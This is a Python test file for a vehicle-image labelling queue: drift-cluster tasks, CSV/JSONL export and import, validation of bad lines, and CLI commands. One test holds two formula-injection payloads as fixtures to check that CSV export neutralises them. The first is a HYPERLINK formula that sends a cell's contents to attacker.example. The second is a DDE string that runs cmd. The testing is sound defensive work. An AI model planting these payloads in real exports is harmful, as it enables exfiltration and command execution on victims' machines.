"""The labelling queue on real Milvus Lite / a Milvus server and SQLite / PostgreSQL: a
drift run's isolated cluster becomes one task with all its images; the export is filled in
and imported; labels reach the database and Milvus's scalar fields (the new make is a
filter); a bad file changes nothing and names each bad line; a second drift run on the
same event makes no second task. Then the same through `carsearch label` in subprocesses."""

from __future__ import annotations

import csv
import json
import os
from datetime import UTC, datetime, timedelta
from pathlib import Path

import numpy as np
import pytest
from sqlalchemy import select

from carsearch.lifecycle.labelling import LabelImportError, export_rows, import_labels, write_rows
from carsearch.monitoring.drift import run_drift
from carsearch.platform.db import Image, labels
from carsearch.platform.vectors.filters import SearchFilters
from fixtures.cli import Result, invoke
from fixtures.drift_world import (
    Catalogue,
    World,
    _fill,
    _planted,
    _settings,
    marker,  # noqa: F401  (fixture)
)
from fixtures.drift_world import world as _drift_world

world = _drift_world  # the fixtures, under the names the tests use


def test_a_drift_cluster_is_labelled_and_becomes_a_filter(world: World, tmp_path: Path) -> None:
    planted, now = _planted(world)
    run = run_drift(world.platform, since=now - timedelta(days=1), retrain_wait_s=60)
    assert run.n_isolated == 1
    (task,) = labels.tasks(world.db)
    assert task["size"] == 12 and set(task["image_ids"]) == set(planted)  # all, not 10
    assert task["drift_report_id"] == run.report_id and task["labelled"] == 0
    assert task["suggested"]["make"].startswith("Make")  # the nearest known class's

    rows = export_rows(world.platform)
    assert {r["image_id"] for r in rows} == set(planted)
    assert rows[0]["suggested_make"] == task["suggested"]["make"]
    out = write_rows(rows, tmp_path / "todo.csv")
    with out.open(newline="") as fh:
        read = list(csv.DictReader(fh))
    assert len(read) == 12 and read[0]["make"] == ""

    # A bad file: every bad line named, nothing applied anywhere.
    bad = _fill(read, make="Zephyr", model="Aero", year="2015", body_type="coupe",
                colour="red")
    bad[2]["year"] = "unknown"
    bad[5]["body_type"] = "spaceship"
    bad[7]["colour"] = "ultraviolet"
    bad_path = tmp_path / "bad.jsonl"
    bad_path.write_text("".join(json.dumps(r) + "\n" for r in bad))
    with pytest.raises(LabelImportError) as err:
        import_labels(world.platform, bad_path)
    assert [p.split(":")[0] for p in err.value.problems] == ["line 3", "line 6", "line 8"]
    assert "spaceship" in err.value.problems[1] and "ultraviolet" in err.value.problems[2]
    with world.db.session() as s:
        assert not list(s.scalars(select(Image).where(Image.make == "Zephyr")))
    probe = np.full((1, 32), 32 ** -0.5, np.float32)
    hits = world.platform.store.search("carsearch_v1", probe, 50,
                                       SearchFilters(make=("Zephyr",)))[0]
    assert hits == []

    # Half the rows filled in: those apply, the task stays open with its progress.
    good = _fill(read[:6], make="zephyr", model="Aero", year="2015", body_type="Coupe",
                 colour="Red")
    half = tmp_path / "half.csv"
    write_rows(good + read[6:], half)
    rep = import_labels(world.platform, half)
    assert rep.applied == 6 and rep.skipped_empty == 6 and rep.tasks_done == []
    assert rep.milvus_updated == {"v1": 6}
    assert labels.tasks(world.db)[0]["labelled"] == 6
    with world.db.session() as s:
        row = s.get(Image, int(read[0]["image_id"]))
        assert row is not None
        assert (row.make, row.model, row.year, row.body_type, row.colour, row.class_name) == (
            "Zephyr", "Aero", 2015, "Coupe", "red", "Zephyr Aero 2015")
    rest = _fill(export_rows(world.platform), make="Zephyr", model="Aero", year=2015,
                 body_type="coupe", colour="red")
    assert len(rest) == 6  # only what is still to label is exported again
    rep = import_labels(world.platform, write_rows(rest, tmp_path / "rest.jsonl"))
    assert rep.applied == 6 and rep.tasks_done == [task["id"]]
    assert labels.tasks(world.db) == [] and labels.counts(world.db) == {"open": 0, "done": 1}
    vecs = world.platform.store.vectors("carsearch_v1", planted)[1]
    hits = world.platform.store.search("carsearch_v1", vecs[:1], 50,
                                       SearchFilters(make=("Zephyr",)))[0]
    assert {h.id for h in hits} == set(planted)  # the new make is a filter
    body = world.platform.store.search("carsearch_v1", vecs[:1], 50,
                                       SearchFilters(body=("coupe",)))[0]
    assert set(planted) <= {h.id for h in body}

    # The same drift event found again: no second task.
    again = run_drift(world.platform, since=now - timedelta(days=1), retrain_wait_s=60)
    assert again.n_isolated == 1
    assert len(labels.tasks(world.db, None)) == 1


def test_label_cli(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from carsearch.platform.db import migrate

    settings = _settings(tmp_path)
    migrate.upgrade(settings.database_url)
    w = World(settings)
    try:
        _planted(w)
        run_drift(w.platform, since=datetime.now(UTC) - timedelta(days=1), retrain_wait_s=60)
    finally:
        w.platform.close()
    env = {**os.environ, "CARSEARCH_DATA_DIR": str(tmp_path / "data"),
           "CARSEARCH_LOG_LEVEL": "WARNING"}

    def cli(*args: str, ok: bool = True) -> Result:
        p = invoke(list(args), env, ok=False)  # in-process (tests/fixtures/cli.py)
        assert (p.returncode == 0) == ok, p.stderr
        return p

    assert "0/12 labelled" in cli("label", "list").stdout
    out = tmp_path / "todo.jsonl"
    assert "wrote 12 image(s)" in cli("label", "export", "--out", str(out)).stdout
    rows = [json.loads(line) for line in out.read_text().splitlines()]
    assert all(Path(r["thumbnail"]).is_file() for r in rows)  # (a grey stand-in here)
    rows[0]["year"] = "soon"
    out.write_text("".join(json.dumps({**r, "make": "Zephyr"}) + "\n" for r in rows))
    p = cli("label", "import", str(out), ok=False)
    assert p.returncode == 2 and "rejected: line 1: year" in p.stderr
    assert [ln for ln in p.stderr.splitlines() if ln.startswith("error: ")] == [
        next(ln for ln in p.stderr.splitlines() if ln.startswith("error: "))]
    rows[0]["year"] = "2015"
    out.write_text("".join(json.dumps({**r, "make": "Zephyr"}) + "\n" for r in rows))
    done = json.loads(cli("label", "import", str(out), "--json").stdout)
    assert done["applied"] == 12 and len(done["tasks_done"]) == 1
    assert "no open labelling tasks" in cli("label", "list").stdout


def test_label_create_makes_a_task_of_the_unlabelled(tmp_path: Path) -> None:
    """`carsearch label create`: the indexed vehicles nobody labelled (no make) and no
    task holds become one task, for new vehicles the drift job did not flag; run again,
    it makes nothing."""
    from sqlalchemy import update

    from carsearch.platform.db import migrate

    settings = _settings(tmp_path)
    migrate.upgrade(settings.database_url)
    w = World(settings)
    try:
        known, known_labels = Catalogue(3).known(30)
        w.add(known, datetime.now(UTC) - timedelta(days=2), known_labels)
        arrivals = w.add(Catalogue(4).new_vehicle(7), datetime.now(UTC))
        with w.db.session() as s:  # arrived without a sidecar: no labels at all
            s.execute(update(Image).where(Image.id.in_(arrivals)).values(make=None,
                                                                          class_name=None))
    finally:
        w.platform.close()
    env = {**os.environ, "CARSEARCH_DATA_DIR": str(tmp_path / "data"),
           "CARSEARCH_LOG_LEVEL": "WARNING"}

    def cli(*args: str) -> str:
        return invoke(list(args), env).stdout  # in-process (tests/fixtures/cli.py)

    assert "7 unlabelled image(s)" in cli("label", "create")
    from carsearch.platform.db import Database

    db = Database(settings.database_url)
    try:
        (task,) = labels.tasks(db)
        assert set(task["image_ids"]) == set(arrivals) and task["drift_report_id"] is None
    finally:
        db.dispose()
    assert "no task made" in cli("label", "create")


def test_the_csv_export_neutralises_formulas(tmp_path: Path) -> None:
    """Issue 22 item 13: a sidecar's class_name of =HYPERLINK(...) is the nearest class a
    task suggests (the task is made directly here, as the drift job makes it from the
    nearest labelled images); in the CSV export no text cell starts with =, +, -, @, a
    tab or a carriage return, and reading the file back gives the values as they were."""
    from carsearch.platform.db import migrate

    settings = _settings(tmp_path)
    migrate.upgrade(settings.database_url)
    w = World(settings)
    try:
        evil = '=HYPERLINK("http://attacker.example/?q="&A1,"click me")'
        ids = w.add(np.zeros((3, 32), np.float32), datetime.now(UTC), vector=False)
        with w.db.session() as s:
            for iid in ids:
                s.get(Image, iid).class_name = evil  # type: ignore[union-attr]
        suggested = {"make": "@SUM(1+1)*cmd|' /C calc'!A0", "model": "+1-2",
                     "year": 2012, "body_type": "-Coupe"}
        labels.create_tasks(w.db, None, "vehicles", [labels.NewTask(ids, evil, suggested)])
        rows = export_rows(w.platform)
        rows[0]["colour"] = "\tred"
        rows[1]["model"] = "\r=1+1"
        out = write_rows(rows, tmp_path / "todo.csv")
    finally:
        w.platform.close()
    with out.open(newline="") as fh:
        cells = [c for line in csv.reader(fh) for c in line]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    with out.open(newline="") as fh:
        read = list(csv.DictReader(fh))
    assert read[0]["nearest_class"] == "'" + evil
    assert read[0]["suggested_make"] == "'" + suggested["make"]
    assert read[0]["suggested_year"] == "2012"  # numbers are left alone
    from carsearch.lifecycle.labelling import read_rows

    back = [r for _n, r in read_rows(out)]
    assert back[0]["nearest_class"] == evil and back[0]["colour"] == "\tred"
    assert back[1]["model"] == "\r=1+1" and back[2]["suggested_body_type"] == "-Coupe"
    # JSON lines are not a spreadsheet's: written as they are.
    jl = write_rows(rows, tmp_path / "todo.jsonl")
    assert json.loads(jl.read_text().splitlines()[0])["nearest_class"] == evil
